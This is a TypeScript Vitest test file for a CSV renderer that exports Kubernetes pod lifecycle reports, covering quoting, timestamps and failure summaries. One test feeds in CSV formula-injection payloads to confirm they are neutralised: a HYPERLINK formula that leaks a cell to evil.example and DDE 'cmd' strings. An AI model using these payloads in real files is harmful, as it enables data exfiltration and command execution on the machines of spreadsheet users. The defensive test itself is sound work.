import { describe, expect, it } from "vitest";
import { renderCsv } from "../../src/render/csv.js";
import { STAGES, TIMESTAMP_NAMES } from "../../src/types.js";
import { envelope, pod } from "../helpers/pods.js";
import { reportOf } from "../helpers/report.js";

/** RFC 4180 reader: CRLF between records, quoted fields may hold `,` `"` (doubled) CR and LF. */
function parseCsv(input: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let i = 0;
  while (i < input.length) {
    if (input[i] === '"' && field === "") {
      i++;
      for (;;) {
        if (i >= input.length) throw new Error("unterminated quoted field");
        if (input[i] === '"') {
          if (input[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += input[i++];
      }
      if (i < input.length && input[i] !== "," && input[i] !== "\r") throw new Error(`junk after a quoted field at ${i}`);
    } else if (input[i] === ",") {
      record.push(field);
      field = "";
      i++;
    } else if (input[i] === "\r") {
      if (input[i + 1] !== "\n") throw new Error(`bare CR at ${i}`);
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      i += 2;
    } else {
      if (input[i] === "\n" || input[i] === '"') throw new Error(`unquoted ${JSON.stringify(input[i])} at ${i}`);
      field += input[i++];
    }
  }
  if (field !== "" || record.length > 0) throw new Error("last record without CRLF");
  return records;
}

const sched = { type: "PodScheduled", status: "True", at: 1 };
const WEIRD = 'Weird, "odd"\nreason';

const report = reportOf([
  envelope("ADDED", pod({ uid: "u-ok", name: "ok", rv: 1, owner: { kind: "ReplicaSet", name: "web-7d4b9c8f6d" } })),
  envelope(
    "MODIFIED",
    pod({ uid: "u-ok", name: "ok", rv: 2, phase: "Running", node: "n1", owner: { kind: "ReplicaSet", name: "web-7d4b9c8f6d" }, conditions: [sched, { type: "Ready", status: "True", at: 5 }], statuses: [{ name: "app", state: { running: 4 }, ready: true }] }),
  ),
  envelope(
    "ADDED",
    pod({
      uid: "u-crash",
      name: "crash",
      rv: 10,
      created: 10,
      phase: "Running",
      node: "n1",
      conditions: [{ ...sched, at: 11 }, { type: "Ready", status: "False", at: 11, reason: "ContainersNotReady" }],
      statuses: [
        {
          name: "app",
          state: { waiting: "CrashLoopBackOff", message: "back-off 40s, restarting" },
          last: { terminated: "OOMKilled", exitCode: 137, started: 15, finished: 30 },
          restarts: 3,
        },
      ],
    }),
  ),
  envelope("ADDED", pod({ uid: "u-weird", name: "weird", rv: 20, created: 20, node: "n2", conditions: [{ ...sched, at: 21 }], statuses: [{ name: "app", state: { waiting: WEIRD } }] })),
  envelope("ADDED", pod({ uid: "u-lf", name: "lf", rv: 25, created: 25, node: "n2", conditions: [{ ...sched, at: 26 }], statuses: [{ name: "app", state: { waiting: "Two\nlines" } }] })),
  envelope("ADDED", pod({ uid: "u-unsched", name: "unsched", rv: 30, created: 30, conditions: [{ type: "PodScheduled", status: "False", at: 30, reason: "Unschedulable", message: "0/3 nodes are available" }] })),
]);

describe("renderCsv", () => {
  const csv = renderCsv(report);
  const rows = parseCsv(csv);
  const header = rows[0]!;
  const byName = new Map(rows.slice(1).map((r) => [r[header.indexOf("name")]!, Object.fromEntries(header.map((h, i) => [h, r[i]!]))]));

  it("writes a header and one row per pod, every row as wide as the header, CRLF line ends", () => {
    expect(header).toEqual([
      "namespace",
      "name",
      "uid",
      "node",
      "owner",
      "stateful",
      "outcome",
      "stuckIn",
      "partial",
      ...TIMESTAMP_NAMES,
      ...STAGES.map((s) => `${s}Ms`),
      "notAfter",
      "boundsMs",
      "restarts",
      "failures",
      "containers",
      "images",
      "notReadyAtEnd",
    ]);
    expect(rows).toHaveLength(report.pods.length + 1);
    for (const r of rows) expect(r).toHaveLength(header.length);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.replace(/"[^"]*(?:""[^"]*)*"/g, "").match(/(?<!\r)\n/)).toBeNull(); // LF only inside quotes
    expect(rows.slice(1).map((r) => r[1])).toEqual(report.pods.map((p) => p.name)); // report order
  });

  it("writes times as RFC 3339, durations in ms, and empty fields for nulls", () => {
    expect(byName.get("ok")).toMatchObject({
      namespace: "shop",
      uid: "u-ok",
      node: "n1",
      owner: "ReplicaSet/web-7d4b9c8f6d",
      outcome: "Ready",
      stuckIn: "",
      partial: "false",
      created: "2024-05-01T10:00:00Z",
      scheduled: "2024-05-01T10:00:01Z",
      ready: "2024-05-01T10:00:05Z",
      finished: "",
      schedulingMs: "1000",
      imagePullMs: "",
      startupMs: "5000",
      restarts: "0",
      failures: "",
    });
    expect(byName.get("unsched")).toMatchObject({ node: "", owner: "", outcome: "Pending", stuckIn: "Unschedulable", schedulingMs: "", failures: "Unschedulable×1" });
  });

  it("sums restarts and lists failure reasons with container and count", () => {
    expect(byName.get("crash")).toMatchObject({ partial: "true", restarts: "3", stuckIn: "CrashLoopBackOff" });
    expect(byName.get("crash")!["failures"]!.split("; ").sort()).toEqual(["CrashLoopBackOff[app]×1", "OOMKilled[app]×1"]);
  });

  it("quotes a field holding a comma, a quote or a line break, doubling the quotes", () => {
    expect(byName.get("weird")).toMatchObject({ stuckIn: WEIRD, failures: `${WEIRD}[app]×1` });
    expect(csv).toContain(`,"Weird, ""odd""\nreason",`);
    expect(csv).toContain(`,"Weird, ""odd""\nreason[app]×1",app,nginx:1.27,"Weird, ""odd""\nreason"\r\n`);
    expect(byName.get("lf")).toMatchObject({ stuckIn: "Two\nlines", failures: "Two\nlines[app]×1" });
    expect(csv).toContain(`,"Two\nlines",`);
  });

  it("neutralises fields a spreadsheet would run as formulas, as OWASP recommends (repro csv-formula)", () => {
    // The smallest input of the defect: formulas in the namespace, name, uid, node and a waiting reason.
    const hostile = reportOf([
      envelope(
        "ADDED",
        pod({
          uid: "@SUM(1+1)",
          name: '=HYPERLINK("http://evil.example/?x="&A2,"open")',
          namespace: "=1+2",
          rv: 1,
          node: "+cmd|' /C calc'!A0",
          statuses: [{ name: "app", state: { waiting: "-2+3+cmd|' /C calc'!A0" } }],
        }),
      ),
      envelope("ADDED", pod({ uid: "u-tab", name: "tab", namespace: "ns", rv: 2, node: "\tn1", statuses: [{ name: "app", state: { waiting: "\r=1" } }] })),
      envelope("ADDED", pod({ uid: "-5", name: "+1.5", namespace: "ns", rv: 3, node: "-", statuses: [{ name: "app", state: { waiting: "@" } }] })),
    ]);
    const out = renderCsv(hostile);
    const [head, ...body] = parseCsv(out);
    const rows = body.map((r) => Object.fromEntries(head!.map((h, i) => [h, r[i]!])));
    expect(rows.find((r) => r["uid"] === "'@SUM(1+1)")).toMatchObject({
      namespace: "'=1+2",
      name: `'=HYPERLINK("http://evil.example/?x="&A2,"open")`,
      node: "'+cmd|' /C calc'!A0",
      stuckIn: "'-2+3+cmd|' /C calc'!A0",
      failures: "'-2+3+cmd|' /C calc'!A0[app]×1",
    });
    expect(rows.find((r) => r["name"] === "tab")).toMatchObject({ node: "'\tn1", stuckIn: "'\r=1" });
    // A plain number stays a number; a lone "-" or "@" is still neutralised.
    expect(rows.find((r) => r["uid"] === "-5")).toMatchObject({ name: "+1.5", node: "'-", stuckIn: "'@" });
    // No field of any row starts with a formula character unless it is a plain number.
    for (const r of body) for (const f of r) expect(/^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(\.\d+)?$/.test(f), f).toBe(false);
  });

  it("writes only the header for a capture without pods", () => {
    expect(parseCsv(renderCsv(reportOf([])))).toEqual([header]);
  });
});
